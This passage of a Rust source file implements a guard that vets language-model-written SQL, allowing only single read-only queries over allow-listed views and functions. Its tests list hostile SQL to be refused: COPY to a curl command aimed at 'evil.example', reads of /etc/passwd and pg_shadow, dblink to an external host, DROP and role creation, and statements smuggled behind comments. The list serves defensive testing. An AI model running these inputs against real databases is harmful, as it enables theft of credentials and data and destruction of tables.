//! The SQL guard for question answering: the first layer of the defence in
//! depth between SQL written by a language model and the database.
//!
//! [`SqlGuard::check`] parses the text with the PostgreSQL dialect of
//! `sqlparser` and accepts only a single read-only query over allow-listed
//! relations (the Q&A views in schema [`SCHEMA`]) that calls only
//! allow-listed functions. Anything else becomes a [`Refusal`] whose message
//! says, in plain words, what was wrong, so it can be shown to a person or
//! sent back to the model for a repair. The accepted statement is re-rendered
//! from the syntax tree, so comments and anything the parser did not
//! understand never reach the database.
//!
//! The guard is one layer, not the only one: the runner still executes the
//! result in a `READ ONLY` transaction with a `statement_timeout`.
//!
//! ```
//! use attendance_core::guard::{Refusal, SqlGuard};
//!
//! let guard = SqlGuard::new(["qa_sessions", "qa_employees"]);
//!
//! let sql = guard.check("select count(*) from qa_sessions; -- how many?")?;
//! assert_eq!(sql.as_str(), "SELECT count(*) FROM qa_sessions");
//!
//! let refused = guard.check("SELECT * FROM pg_catalog.pg_shadow");
//! assert!(matches!(refused, Err(Refusal::Relation { .. })));
//! # Ok::<(), Refusal>(())
//! ```

use std::collections::BTreeSet;
use std::fmt;
use std::ops::ControlFlow;

use sqlparser::ast::{
    BinaryOperator, DataType, Expr, Function, Ident, InTarget, ObjectName, ObjectNamePart, Query,
    Select, SetExpr, Statement, TableFactor, TypedString, Visit, Visitor,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::{Parser, ParserError};
use sqlparser::tokenizer::{Token, Tokenizer};

/// The schema the allow-listed relations live in; the only schema a query
/// may name.
pub const SCHEMA: &str = "attendance";

/// Default maximum length of a statement, in characters.
pub const DEFAULT_MAX_LEN: usize = 4000;

/// Upper bound for [`SqlGuard::with_max_len`]; larger values are lowered to
/// it. It keeps the syntax tree small enough to walk safely.
pub const MAX_LEN_CEILING: usize = 100_000;

/// Functions a query may call unless the list is replaced with
/// [`SqlGuard::with_functions`]: aggregates, window functions, date and time,
/// math, conditional and string functions that read nothing but their
/// arguments. Names are lower case and unqualified.
pub const DEFAULT_FUNCTIONS: &[&str] = &[
    // aggregates
    "count",
    "sum",
    "avg",
    "min",
    "max",
    "bool_and",
    "bool_or",
    "every",
    "string_agg",
    "array_agg",
    "percentile_cont",
    "percentile_disc",
    "mode",
    "stddev",
    "stddev_pop",
    "stddev_samp",
    "variance",
    "var_pop",
    "var_samp",
    // window functions
    "row_number",
    "rank",
    "dense_rank",
    "percent_rank",
    "cume_dist",
    "ntile",
    "lag",
    "lead",
    "first_value",
    "last_value",
    // date and time (EXTRACT has its own syntax and needs no entry)
    "date_trunc",
    "date_part",
    "age",
    "make_date",
    "make_time",
    "make_interval",
    "to_char",
    "to_date",
    "justify_days",
    "justify_hours",
    "justify_interval",
    "now",
    "current_date",
    "current_time",
    "current_timestamp",
    "localtime",
    "localtimestamp",
    // math
    "round",
    "floor",
    "ceil",
    "ceiling",
    "abs",
    "trunc",
    "div",
    "mod",
    "power",
    "sqrt",
    "sign",
    // conditional
    "coalesce",
    "nullif",
    "greatest",
    "least",
    // string
    "lower",
    "upper",
    "initcap",
    "trim",
    "btrim",
    "ltrim",
    "rtrim",
    "length",
    "char_length",
    "concat",
    "concat_ws",
    "substring",
    "substr",
    "position",
    "strpos",
    "left",
    "right",
    "split_part",
    "replace",
    "lpad",
    "rpad",
];

/// Object-identifier alias types: a cast to one of them reads the system
/// catalogs (`10::regrole` names a role, `1259::regclass` a catalog).
/// `regoper` and `regproc` also match `regoperator` and `regprocedure`.
const OID_ALIAS_TYPES: &[&str] = &[
    "regclass",
    "regcollation",
    "regconfig",
    "regdictionary",
    "regnamespace",
    "regoper",
    "regproc",
    "regrole",
    "regtype",
];

/// Deepest nesting of expressions inside one another that the guard walks.
/// Left-deep chains (`a + b + c …`, `x AND y AND …`) are built by the parser
/// without recursion, so its own limit does not bound them.
const MAX_EXPR_DEPTH: usize = 100;

/// Deepest nesting of UNION / INTERSECT / EXCEPT, for the same reason.
const MAX_SET_OPERATION_DEPTH: usize = 64;

/// Stack of the helper thread that parses and walks the statement. The
/// parser recurses (its `recursive-protection` feature is off here) and, in
/// a debug build, a few dozen levels of nesting overflow the 2 MiB stack of a
/// test or Tokio worker thread. The stack is reserved, not committed, so an
/// ordinary query touches little of it.
const WORKER_STACK_BYTES: usize = 32 * 1024 * 1024;

/// Checks SQL written by a language model before it runs.
///
/// Built with [`SqlGuard::new`] from the allow-listed relations, then tuned
/// with [`with_functions`](SqlGuard::with_functions),
/// [`allow_functions`](SqlGuard::allow_functions) and
/// [`with_max_len`](SqlGuard::with_max_len). Defaults: the functions in
/// [`DEFAULT_FUNCTIONS`] and a length limit of [`DEFAULT_MAX_LEN`]
/// characters.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SqlGuard {
    relations: BTreeSet<String>,
    functions: BTreeSet<String>,
    max_len: usize,
}

impl SqlGuard {
    /// A guard that allows reading the given relations of schema [`SCHEMA`].
    ///
    /// Names are matched case-insensitively, written in a query either bare
    /// (`qa_sessions`) or qualified (`attendance.qa_sessions`). A name given
    /// here as `attendance.<name>` counts as `<name>`.
    pub fn new(relations: impl IntoIterator<Item = impl Into<String>>) -> Self {
        let relations = relations
            .into_iter()
            .map(|name| {
                let name = name.into().trim().to_lowercase();
                match name.split_once('.') {
                    Some((schema, bare)) if schema == SCHEMA => bare.to_owned(),
                    _ => name,
                }
            })
            .collect();
        Self {
            relations,
            functions: DEFAULT_FUNCTIONS.iter().map(|&f| f.to_owned()).collect(),
            max_len: DEFAULT_MAX_LEN,
        }
    }

    /// Replaces the function allow-list (names are matched
    /// case-insensitively and must be unqualified in a query).
    #[must_use]
    pub fn with_functions(
        mut self,
        functions: impl IntoIterator<Item = impl Into<String>>,
    ) -> Self {
        self.functions = functions
            .into_iter()
            .map(|f| f.into().trim().to_lowercase())
            .collect();
        self
    }

    /// Adds functions to the allow-list.
    #[must_use]
    pub fn allow_functions(
        mut self,
        functions: impl IntoIterator<Item = impl Into<String>>,
    ) -> Self {
        self.functions.extend(
            functions
                .into_iter()
                .map(|f| f.into().trim().to_lowercase()),
        );
        self
    }

    /// Sets the maximum length of a statement in characters (at most
    /// [`MAX_LEN_CEILING`]).
    #[must_use]
    pub fn with_max_len(mut self, max_len: usize) -> Self {
        self.max_len = max_len.min(MAX_LEN_CEILING);
        self
    }

    /// The allow-listed relations, lower case, sorted.
    pub fn relations(&self) -> impl Iterator<Item = &str> {
        self.relations.iter().map(String::as_str)
    }

    /// The allow-listed functions, lower case, sorted.
    pub fn functions(&self) -> impl Iterator<Item = &str> {
        self.functions.iter().map(String::as_str)
    }

    /// The maximum length of a statement in characters.
    pub fn max_len(&self) -> usize {
        self.max_len
    }

    /// Accepts `sql` if it is a single read-only query over the allow-listed
    /// relations that calls only allow-listed functions, and returns the
    /// statement to execute; otherwise says why not.
    ///
    /// The work is CPU-bound and blocking but short (a thread start and one
    /// parse): it runs on a short-lived helper thread with a large stack so
    /// that deeply nested input is refused instead of overflowing the
    /// caller's stack, which may be a small Tokio worker stack.
    ///
    /// # Errors
    /// A [`Refusal`] naming the first rule the statement breaks.
    pub fn check(&self, sql: &str) -> Result<GuardedSql, Refusal> {
        let len = sql.chars().count();
        if len > self.max_len {
            return Err(Refusal::TooLong {
                max: self.max_len,
                len,
            });
        }
        if sql.trim().is_empty() {
            return Err(Refusal::Empty);
        }
        std::thread::scope(|scope| {
            let worker = std::thread::Builder::new()
                .name("sql-guard".to_owned())
                .stack_size(WORKER_STACK_BYTES)
                .spawn_scoped(scope, || self.check_here(sql));
            match worker {
                Ok(handle) => handle.join().unwrap_or(Err(Refusal::GuardFailure {
                    reason: "the SQL parser panicked",
                })),
                Err(_) => Err(Refusal::GuardFailure {
                    reason: "its worker thread could not be started",
                }),
            }
        })
    }

    /// [`check`](Self::check) without the helper thread.
    fn check_here(&self, sql: &str) -> Result<GuardedSql, Refusal> {
        let dialect = PostgreSqlDialect {};
        let statements = Parser::new(&dialect)
            .try_with_sql(sql)
            .and_then(|mut parser| parser.parse_statements())
            .map_err(parse_refusal)?;
        let statement = match statements.as_slice() {
            [] => return Err(Refusal::Empty),
            [one] => one,
            many => {
                return Err(Refusal::MultipleStatements { count: many.len() });
            }
        };
        let Statement::Query(query) = statement else {
            return Err(Refusal::NotSelect {
                kind: leading_keyword(sql),
            });
        };
        let mut checker = Checker::new(self);
        if let ControlFlow::Break(refusal) = query.visit(&mut checker) {
            return Err(*refusal);
        }
        let rendered = statement.to_string();
        // What runs is the rendering, so it must mean exactly what was
        // checked; a rendering bug in sqlparser must not open a hole.
        match Parser::parse_sql(&dialect, &rendered) {
            Ok(again) if again.as_slice() == std::slice::from_ref(statement) => {
                Ok(GuardedSql { sql: rendered })
            }
            _ => Err(Refusal::GuardFailure {
                reason: "the statement did not survive re-rendering unchanged",
            }),
        }
    }
}

/// A statement accepted by [`SqlGuard::check`]: one query, re-rendered from
/// its syntax tree, without comments or a trailing semicolon.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct GuardedSql {
    sql: String,
}

impl GuardedSql {
    /// The text to execute.
    pub fn as_str(&self) -> &str {
        &self.sql
    }

    /// The text to execute, owned.
    pub fn into_string(self) -> String {
        self.sql
    }
}

impl fmt::Display for GuardedSql {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.sql)
    }
}

impl AsRef<str> for GuardedSql {
    fn as_ref(&self) -> &str {
        &self.sql
    }
}

impl From<GuardedSql> for String {
    fn from(sql: GuardedSql) -> Self {
        sql.sql
    }
}

/// Why [`SqlGuard::check`] refused a statement. The message is meant for a
/// person (or for the model, to repair its query).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum Refusal {
    /// Nothing but whitespace, comments or semicolons.
    #[error("the statement is empty")]
    Empty,
    /// Longer than the configured limit.
    #[error("the statement is longer than {max} characters (it has {len})")]
    TooLong {
        /// The limit, in characters.
        max: usize,
        /// The statement's length, in characters.
        len: usize,
    },
    /// Nested deeper than the parser or the guard will follow.
    #[error("the statement is nested too deeply")]
    TooDeep,
    /// Not valid SQL for the PostgreSQL dialect.
    #[error("the statement could not be parsed: {reason}")]
    Unparsable {
        /// The parser's explanation.
        reason: String,
    },
    /// More than one statement.
    #[error("only one statement is allowed, found {count}")]
    MultipleStatements {
        /// How many statements were found.
        count: usize,
    },
    /// A statement other than a query (`INSERT`, `COPY`, `SET`, DDL…).
    #[error("statements other than SELECT are not allowed (found {kind})")]
    NotSelect {
        /// The statement's leading keyword, e.g. `DELETE`.
        kind: String,
    },
    /// `INSERT`, `UPDATE`, `DELETE` or `MERGE` inside `WITH`.
    #[error("data-modifying statements in WITH are not allowed")]
    DataModifyingCte,
    /// `SELECT … INTO`, which creates a table.
    #[error("SELECT … INTO is not allowed")]
    SelectInto,
    /// `FOR UPDATE`, `FOR SHARE` and the like, at any level.
    #[error("locking clauses (FOR UPDATE/SHARE) are not allowed")]
    Locking,
    /// A table or view outside the allow-list.
    #[error("relation {name} is not allowed; allowed: {}", .allowed.join(", "))]
    Relation {
        /// The relation as written.
        name: String,
        /// The allow-listed relations.
        allowed: Vec<String>,
    },
    /// A `WITH` query whose name is already taken by an allow-listed relation,
    /// an enclosing `WITH` query or a sibling.
    #[error(
        "the WITH query name {name} is already the name of a relation or of another WITH query; choose another name"
    )]
    WithNameTaken {
        /// The name as written.
        name: String,
    },
    /// A function outside the allow-list, or a schema-qualified one.
    #[error("function {name} is not allowed")]
    Function {
        /// The function as written.
        name: String,
    },
    /// A function used as a table in `FROM` (`generate_series`, `unnest`,
    /// `dblink`…).
    #[error("table functions in FROM are not allowed (found {name})")]
    TableFunction {
        /// The function as written.
        name: String,
    },
    /// Syntax the guard does not accept (other dialects' extensions,
    /// `OPERATOR(…)`…).
    #[error("{what} is not allowed")]
    Construct {
        /// What was found.
        what: &'static str,
    },
    /// The guard itself failed; the statement was not checked.
    #[error("the SQL guard could not check the statement: {reason}")]
    GuardFailure {
        /// What went wrong.
        reason: &'static str,
    },
}

fn refuse(refusal: Refusal) -> ControlFlow<Box<Refusal>> {
    ControlFlow::Break(Box::new(refusal))
}

fn parse_refusal(error: ParserError) -> Refusal {
    match error {
        ParserError::RecursionLimitExceeded => Refusal::TooDeep,
        ParserError::ParserError(reason) | ParserError::TokenizerError(reason) => {
            Refusal::Unparsable { reason }
        }
    }
}

/// The first keyword of `sql`, upper case, to name a refused statement.
fn leading_keyword(sql: &str) -> String {
    let dialect = PostgreSqlDialect {};
    Tokenizer::new(&dialect, sql)
        .tokenize()
        .ok()
        .and_then(|tokens| {
            tokens.into_iter().find_map(|token| match token {
                Token::Word(word) => Some(word.value.to_uppercase()),
                _ => None,
            })
        })
        .unwrap_or_else(|| "an unknown statement".to_owned())
}

/// How PostgreSQL compares an identifier: unquoted ones fold to lower case,
/// quoted ones are exact.
fn ident_key(ident: &Ident) -> String {
    match ident.quote_style {
        None => ident.value.to_lowercase(),
        Some(_) => ident.value.clone(),
    }
}

/// The parts of a name, or `None` if one is not a plain identifier.
fn name_keys(name: &ObjectName) -> Option<Vec<String>> {
    name.0
        .iter()
        .map(|part| match part {
            ObjectNamePart::Identifier(ident) => Some(ident_key(ident)),
            ObjectNamePart::Function(_) => None,
        })
        .collect()
}

/// Walks a query's syntax tree and stops at the first broken rule.
///
/// `WITH` names are scoped the way PostgreSQL scopes them: a `WITH` query's
/// name is visible in the body of the query that defines it (and in
/// subqueries there), and in the later sibling `WITH` queries — all of them
/// under `RECURSIVE`. Anywhere else a bare name is a real relation and must
/// be on the allow-list, so a `WITH` query named like a catalog cannot make
/// the catalog itself pass.
#[derive(Debug)]
struct Checker<'g> {
    guard: &'g SqlGuard,
    /// The `WITH` names visible in each query being walked, innermost last.
    scopes: Vec<Vec<String>>,
    /// `WITH` query bodies not yet reached, with the names visible in each.
    pending_ctes: Vec<(*const Query, Vec<String>)>,
    expr_depth: usize,
}

impl<'g> Checker<'g> {
    fn new(guard: &'g SqlGuard) -> Self {
        Self {
            guard,
            scopes: Vec::new(),
            pending_ctes: Vec::new(),
            expr_depth: 0,
        }
    }

    fn relation_refusal(&self, name: &ObjectName) -> Refusal {
        Refusal::Relation {
            name: name.to_string(),
            allowed: self.guard.relations.iter().cloned().collect(),
        }
    }

    fn check_function(&self, function: &Function) -> ControlFlow<Box<Refusal>> {
        let allowed = match name_keys(&function.name).as_deref() {
            Some([name]) => self.guard.functions.contains(name),
            _ => false,
        };
        if allowed {
            ControlFlow::Continue(())
        } else {
            refuse(Refusal::Function {
                name: function.name.to_string(),
            })
        }
    }
}

/// Whether a cast to `data_type` would read the system catalogs.
fn is_oid_alias(data_type: &DataType) -> bool {
    // The rendering covers arrays and schema-qualified names alike.
    let name = data_type.to_string().to_lowercase();
    OID_ALIAS_TYPES.iter().any(|alias| name.contains(alias))
}

/// Checks the set-expression tree of one query body; nested queries are
/// checked when the visitor reaches them.
fn check_body(body: &SetExpr, in_with: bool) -> Result<(), Refusal> {
    let modifying = |kind: &str| {
        if in_with {
            Refusal::DataModifyingCte
        } else {
            Refusal::NotSelect {
                kind: kind.to_owned(),
            }
        }
    };
    let mut pending = vec![(body, 0_usize)];
    while let Some((set_expr, depth)) = pending.pop() {
        match set_expr {
            SetExpr::Select(_) | SetExpr::Query(_) | SetExpr::Values(_) => {}
            SetExpr::SetOperation { left, right, .. } => {
                if depth >= MAX_SET_OPERATION_DEPTH {
                    return Err(Refusal::TooDeep);
                }
                pending.push((left, depth + 1));
                pending.push((right, depth + 1));
            }
            SetExpr::Insert(_) => return Err(modifying("INSERT")),
            SetExpr::Update(_) => return Err(modifying("UPDATE")),
            SetExpr::Delete(_) => return Err(modifying("DELETE")),
            SetExpr::Merge(_) => return Err(modifying("MERGE")),
            SetExpr::Table(_) => {
                return Err(Refusal::Construct {
                    what: "the TABLE shorthand",
                });
            }
        }
    }
    Ok(())
}

impl Visitor for Checker<'_> {
    type Break = Box<Refusal>;

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<Self::Break> {
        let cte = self
            .pending_ctes
            .iter()
            .position(|(body, _)| std::ptr::eq(*body, query));
        let (outer, in_with) = match cte {
            Some(index) => (self.pending_ctes.swap_remove(index).1, true),
            None => (self.scopes.last().cloned().unwrap_or_default(), false),
        };

        if !query.locks.is_empty() {
            return refuse(Refusal::Locking);
        }
        if query.for_clause.is_some() {
            return refuse(Refusal::Construct {
                what: "a FOR XML/JSON clause",
            });
        }
        if query.settings.is_some() || query.format_clause.is_some() {
            return refuse(Refusal::Construct {
                what: "a SETTINGS or FORMAT clause",
            });
        }
        if !query.pipe_operators.is_empty() {
            return refuse(Refusal::Construct {
                what: "the |> pipe syntax",
            });
        }
        if let Err(refusal) = check_body(&query.body, in_with) {
            return refuse(refusal);
        }

        let mut visible = outer.clone();
        if let Some(with) = &query.with {
            let names: Vec<String> = with
                .cte_tables
                .iter()
                .map(|cte| ident_key(&cte.alias.name))
                .collect();
            for (index, cte) in with.cte_tables.iter().enumerate() {
                let name = &names[index];
                if self.guard.relations.contains(name)
                    || outer.contains(name)
                    || names[..index].contains(name)
                {
                    return refuse(Refusal::WithNameTaken {
                        name: cte.alias.name.to_string(),
                    });
                }
            }
            for (index, cte) in with.cte_tables.iter().enumerate() {
                let seen = if with.recursive { names.len() } else { index };
                let mut sees = outer.clone();
                sees.extend(names[..seen].iter().cloned());
                self.pending_ctes.push((&*cte.query, sees));
            }
            visible.extend(names);
        }
        self.scopes.push(visible);
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, _query: &Query) -> ControlFlow<Self::Break> {
        self.scopes.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<Self::Break> {
        if select.into.is_some() {
            return refuse(Refusal::SelectInto);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, table_factor: &TableFactor) -> ControlFlow<Self::Break> {
        let function = |name: &str| {
            refuse(Refusal::TableFunction {
                name: name.to_owned(),
            })
        };
        let construct = |what| refuse(Refusal::Construct { what });
        match table_factor {
            TableFactor::Table { args: None, .. }
            | TableFactor::Derived { .. }
            | TableFactor::NestedJoin { .. } => ControlFlow::Continue(()),
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            }
            | TableFactor::Function { name, .. } => function(&name.to_string()),
            TableFactor::UNNEST { .. } => function("UNNEST"),
            TableFactor::TableFunction { .. } => function("TABLE(…)"),
            TableFactor::JsonTable { .. } => function("JSON_TABLE"),
            TableFactor::OpenJsonTable { .. } => function("OPENJSON"),
            TableFactor::XmlTable { .. } => function("XMLTABLE"),
            TableFactor::SemanticView { .. } => function("SEMANTIC_VIEW"),
            TableFactor::Pivot { .. } => construct("PIVOT"),
            TableFactor::Unpivot { .. } | TableFactor::UnpivotExpr { .. } => construct("UNPIVOT"),
            TableFactor::MatchRecognize { .. } => construct("MATCH_RECOGNIZE"),
        }
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<Self::Break> {
        let allowed = match name_keys(relation).as_deref() {
            Some([name]) => {
                self.scopes.last().is_some_and(|scope| scope.contains(name))
                    || self.guard.relations.contains(name)
            }
            Some([schema, name]) => schema == SCHEMA && self.guard.relations.contains(name),
            _ => false,
        };
        if allowed {
            ControlFlow::Continue(())
        } else {
            refuse(self.relation_refusal(relation))
        }
    }

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<Self::Break> {
        // The checked query is visited directly, so any statement met here is
        // nested inside it.
        let kind = match statement {
            Statement::Insert(_) => "INSERT",
            Statement::Update(_) => "UPDATE",
            Statement::Delete(_) => "DELETE",
            Statement::Merge(_) => "MERGE",
            _ => "a nested statement",
        };
        refuse(Refusal::NotSelect {
            kind: kind.to_owned(),
        })
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<Self::Break> {
        self.expr_depth += 1;
        if self.expr_depth > MAX_EXPR_DEPTH {
            return refuse(Refusal::TooDeep);
        }
        let construct = |what| refuse(Refusal::Construct { what });
        // Deliberately exhaustive: a new kind of expression in a future
        // sqlparser must be reviewed before it is let through.
        match expr {
            Expr::Function(function) => self.check_function(function),
            Expr::In { target, .. } => match target {
                InTarget::List(_) | InTarget::Subquery(_) => ControlFlow::Continue(()),
                InTarget::Unnest(_) => refuse(Refusal::TableFunction {
                    name: "UNNEST".to_owned(),
                }),
                InTarget::Table { .. } => construct("IN followed by a table name"),
            },
            Expr::BinaryOp { op, .. }
            | Expr::AnyOp { compare_op: op, .. }
            | Expr::AllOp { compare_op: op, .. } => {
                if matches!(op, BinaryOperator::PGCustomBinaryOperator(_)) {
                    construct("the OPERATOR(…) syntax")
                } else {
                    ControlFlow::Continue(())
                }
            }
            Expr::Cast { data_type, .. } | Expr::TypedString(TypedString { data_type, .. }) => {
                if is_oid_alias(data_type) {
                    construct("a cast to an object-identifier type (regclass, regrole…)")
                } else {
                    ControlFlow::Continue(())
                }
            }
            Expr::Identifier(_)
            | Expr::CompoundIdentifier(_)
            | Expr::CompoundFieldAccess { .. }
            | Expr::IsFalse(_)
            | Expr::IsNotFalse(_)
            | Expr::IsTrue(_)
            | Expr::IsNotTrue(_)
            | Expr::IsNull(_)
            | Expr::IsNotNull(_)
            | Expr::IsUnknown(_)
            | Expr::IsNotUnknown(_)
            | Expr::IsDistinctFrom(..)
            | Expr::IsNotDistinctFrom(..)
            | Expr::Between { .. }
            | Expr::Like { .. }
            | Expr::ILike { .. }
            | Expr::SimilarTo { .. }
            | Expr::UnaryOp { .. }
            | Expr::AtTimeZone { .. }
            | Expr::Extract { .. }
            | Expr::Ceil { .. }
            | Expr::Floor { .. }
            | Expr::Position { .. }
            | Expr::Substring { .. }
            | Expr::Trim { .. }
            | Expr::Collate { .. }
            | Expr::Nested(_)
            | Expr::Value(_)
            | Expr::Case { .. }
            | Expr::Exists { .. }
            | Expr::Subquery(_)
            | Expr::GroupingSets(_)
            | Expr::Cube(_)
            | Expr::Rollup(_)
            | Expr::Tuple(_)
            | Expr::Array(_)
            | Expr::Interval(_)
            | Expr::Wildcard(_)
            | Expr::QualifiedWildcard(..) => ControlFlow::Continue(()),
            Expr::JsonAccess { .. } => construct("JSON path access"),
            Expr::IsJson { .. } => construct("IS JSON"),
            Expr::IsNormalized { .. } => construct("IS NORMALIZED"),
            Expr::RLike { .. } => construct("RLIKE/REGEXP"),
            Expr::Convert { .. } => construct("CONVERT"),
            Expr::Overlay { .. } => construct("OVERLAY"),
            Expr::Prefixed { .. } => construct("a prefixed literal"),
            Expr::Struct { .. } => construct("a STRUCT literal"),
            Expr::Named { .. } => construct("a named expression"),
            Expr::Dictionary(_) => construct("a dictionary literal"),
            Expr::Map(_) => construct("a MAP literal"),
            Expr::MatchAgainst { .. } => construct("MATCH … AGAINST"),
            Expr::OuterJoin(_) => construct("the (+) outer join"),
            Expr::Prior(_) => construct("PRIOR"),
            Expr::Lambda(_) => construct("a lambda expression"),
            Expr::MemberOf(_) => construct("MEMBER OF"),
        }
    }

    fn post_visit_expr(&mut self, _expr: &Expr) -> ControlFlow<Self::Break> {
        self.expr_depth = self.expr_depth.saturating_sub(1);
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const VIEWS: [&str; 4] = [
        "qa_sessions",
        "qa_employees",
        "qa_teams",
        "qa_daily_attendance",
    ];

    fn guard() -> SqlGuard {
        SqlGuard::new(VIEWS)
    }

    /// A short name per variant, so the tables below can say which refusal
    /// they expect.
    fn kind(refusal: &Refusal) -> &'static str {
        match refusal {
            Refusal::Empty => "empty",
            Refusal::TooLong { .. } => "too_long",
            Refusal::TooDeep => "too_deep",
            Refusal::Unparsable { .. } => "unparsable",
            Refusal::MultipleStatements { .. } => "multiple",
            Refusal::NotSelect { .. } => "not_select",
            Refusal::DataModifyingCte => "modifying_cte",
            Refusal::SelectInto => "select_into",
            Refusal::Locking => "locking",
            Refusal::Relation { .. } => "relation",
            Refusal::WithNameTaken { .. } => "with_name",
            Refusal::Function { .. } => "function",
            Refusal::TableFunction { .. } => "table_function",
            Refusal::Construct { .. } => "construct",
            Refusal::GuardFailure { .. } => "guard_failure",
        }
    }

    fn hostile() -> Vec<(String, &'static str)> {
        let fixed: &[(&str, &str)] = &[
            // writes and DDL
            (
                "INSERT INTO qa_sessions (employee_id) VALUES (1)",
                "not_select",
            ),
            ("UPDATE qa_sessions SET clock_out = now()", "not_select"),
            ("DELETE FROM qa_sessions", "not_select"),
            (
                "MERGE INTO qa_sessions s USING qa_employees e ON s.employee_id = e.id \
                 WHEN MATCHED THEN DELETE",
                "not_select",
            ),
            ("TRUNCATE qa_sessions", "not_select"),
            ("CREATE TABLE x (id int)", "not_select"),
            ("DROP TABLE qa_sessions", "not_select"),
            ("ALTER TABLE qa_sessions ADD COLUMN x int", "not_select"),
            ("GRANT ALL ON qa_sessions TO PUBLIC", "not_select"),
            ("CREATE ROLE evil SUPERUSER LOGIN", "not_select"),
            (
                "WITH x AS (SELECT 1) INSERT INTO qa_teams SELECT * FROM x",
                "not_select",
            ),
            // several statements, hidden or not
            ("SELECT 1; DROP TABLE x", "multiple"),
            (
                "SELECT 1 /* harmless */; DROP TABLE qa_sessions",
                "multiple",
            ),
            (
                "SELECT 1 -- just a comment\n; DELETE FROM qa_sessions",
                "multiple",
            ),
            (
                "sElEcT * FrOm qa_sessions; dElEtE fRoM qa_sessions",
                "multiple",
            ),
            // files and programs
            (
                "COPY qa_sessions TO PROGRAM 'curl http://evil.example'",
                "not_select",
            ),
            ("COPY qa_sessions FROM '/etc/passwd'", "not_select"),
            ("SELECT pg_read_file('/etc/passwd')", "function"),
            ("SELECT pg_ls_dir('/')", "function"),
            ("SELECT * FROM pg_ls_dir('.') AS f", "table_function"),
            ("SELECT lo_import('/etc/passwd')", "function"),
            ("SELECT lo_export(1234, '/tmp/x')", "function"),
            // dangerous or revealing functions
            ("SELECT pg_sleep(100)", "function"),
            (
                "SELECT set_config('statement_timeout', '0', false)",
                "function",
            ),
            ("SELECT current_setting('data_directory')", "function"),
            ("SELECT nextval('some_seq')", "function"),
            ("SELECT setval('some_seq', 1)", "function"),
            ("SELECT txid_current()", "function"),
            ("SELECT pg_advisory_lock(1)", "function"),
            ("SELECT version()", "function"),
            ("SELECT current_user", "function"),
            (
                "SELECT query_to_xml('select * from pg_shadow', true, true, '')",
                "function",
            ),
            (
                "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
                "function",
            ),
            (
                "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
                "table_function",
            ),
            ("SELECT pg_catalog.now()", "function"),
            ("SELECT \"pg_sleep\"(1)", "function"),
            ("SELECT ARRAY(SELECT usename FROM pg_user)", "function"),
            ("SELECT attendance.evil()", "function"),
            (
                "SELECT * FROM qa_sessions WHERE clock_in < (SELECT pg_sleep(1))",
                "function",
            ),
            (
                "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM qa_sessions",
                "function",
            ),
            (
                "SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM qa_sessions",
                "function",
            ),
            ("SELECT generate_series(1, 1e9)", "function"),
            // relations outside the allow-list
            ("SELECT * FROM pg_catalog.pg_user", "relation"),
            ("SELECT usename, passwd FROM pg_shadow", "relation"),
            ("SELECT * FROM information_schema.tables", "relation"),
            ("SELECT relname FROM pg_class", "relation"),
            ("SELECT * FROM ONLY pg_class", "relation"),
            (
                "SELECT * FROM qa_sessions LIMIT (SELECT count(*) FROM pg_class)",
                "relation",
            ),
            ("SELECT * FROM public.anything", "relation"),
            ("SELECT * FROM \"pg_catalog\".\"pg_user\"", "relation"),
            ("SELECT * FROM attendance.pg_user", "relation"),
            ("SELECT * FROM attendance.\"QA_SESSIONS\"", "relation"),
            ("SELECT * FROM mydb.attendance.qa_sessions", "relation"),
            (
                "SELECT * FROM pg_class a, pg_attribute b, pg_proc c",
                "relation",
            ),
            (
                "SELECT employee_id::text FROM qa_sessions UNION SELECT rolname FROM pg_catalog.pg_roles",
                "relation",
            ),
            (
                "SELECT * FROM qa_sessions WHERE employee_id::text IN (SELECT rolname FROM pg_authid)",
                "relation",
            ),
            (
                "SELECT * FROM qa_employees e JOIN LATERAL (SELECT * FROM pg_stat_activity) a ON true",
                "relation",
            ),
            // WITH names must not open a hole
            (
                "WITH pg_user AS (SELECT 1) SELECT * FROM pg_catalog.pg_user",
                "relation",
            ),
            (
                "SELECT * FROM pg_user, (WITH pg_user AS (SELECT 1 AS x) SELECT * FROM pg_user) t",
                "relation",
            ),
            (
                "WITH a AS (SELECT * FROM pg_shadow), pg_shadow AS (SELECT 1) SELECT * FROM a",
                "relation",
            ),
            (
                "WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow",
                "relation",
            ),
            (
                "WITH qa_sessions AS (SELECT 1) SELECT * FROM qa_sessions",
                "with_name",
            ),
            (
                "WITH t AS (SELECT 1), t AS (SELECT 2) SELECT * FROM t",
                "with_name",
            ),
            // table functions
            ("SELECT * FROM generate_series(1, 1e9)", "table_function"),
            ("SELECT * FROM unnest(ARRAY[1, 2])", "table_function"),
            (
                "SELECT * FROM qa_employees e, LATERAL generate_series(1, 10) g",
                "table_function",
            ),
            // locks, SELECT INTO, data-modifying WITH
            ("SELECT * FROM qa_sessions FOR UPDATE", "locking"),
            ("(SELECT * FROM qa_sessions FOR UPDATE)", "locking"),
            (
                "SELECT * FROM qa_sessions WHERE employee_id IN \
                 (SELECT id FROM qa_employees FOR SHARE)",
                "locking",
            ),
            ("SELECT * FROM qa_teams FOR SHARE SKIP LOCKED", "locking"),
            // sqlparser 0.64 does not know the weaker lock strengths at all
            (
                "SELECT (SELECT 1 FROM qa_teams FOR NO KEY UPDATE)",
